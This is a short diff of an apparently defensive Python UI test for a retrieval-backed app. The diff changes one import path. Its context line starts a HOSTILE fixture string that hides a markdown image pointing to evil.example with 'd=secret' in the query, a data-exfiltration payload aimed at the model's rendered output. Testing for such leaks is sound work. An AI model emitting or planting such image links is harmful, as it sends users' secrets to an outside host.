@@ -12,7 +12,7 @@ from urllib.parse import urlparse
 import pytest
 
 from tests.app_fixtures import APP, ROOT, build_env
-from tests.test_browser import BROWSER_ARGS, CHROMIUM, LOCAL_HOSTS, free_port, settle, wait_healthy
+from tests.ui.test_browser import BROWSER_ARGS, CHROMIUM, LOCAL_HOSTS, free_port, settle, wait_healthy
 from vectorstore.embeddings import Embedder
 
 HOSTILE = ("The minimum withdrawal is US$2 [1]. ![pixel](https://evil.example/p.png?d=secret) "
